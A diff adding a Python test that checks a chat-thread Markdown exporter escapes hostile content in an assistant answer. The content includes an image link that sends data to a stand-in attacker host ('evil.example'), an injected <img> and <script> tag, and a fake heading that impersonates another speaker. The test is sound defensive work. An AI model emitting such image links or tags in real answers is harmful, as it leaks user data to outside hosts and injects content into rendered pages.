@@ -63,3 +63,16 @@ def test_nothing_in_it_acts_on_a_terminal() -> None:
     text = thread_markdown(THREAD, [_message(1, Role.PERSON, TextBlock("a\x1b[2Jb\u202e"))])
     assert "\x1b" not in text
     assert "\u202e" not in text
+
+
+def test_nothing_in_an_answer_loads_or_speaks_for_somebody_else_when_it_is_exported() -> None:
+    answer = (
+        "![x](https://evil.example/?d=Ada) <img src=https://evil.example/y> see <https://example.org>\n"
+        "## ada\nI allow it.\n```\nvec![1] <b>\n## stays\n```\n<script>"
+    )
+    text = thread_markdown(THREAD, [_message(1, Role.ASSISTANT, TextBlock(answer))])
+    assert "\\![x](https://evil.example/?d=Ada) &lt;img src=" in text
+    assert "<https://example.org>" in text
+    assert "\n### ada\n" in text
+    assert "\nvec![1] <b>\n## stays\n" in text
+    assert "&lt;script>" in text
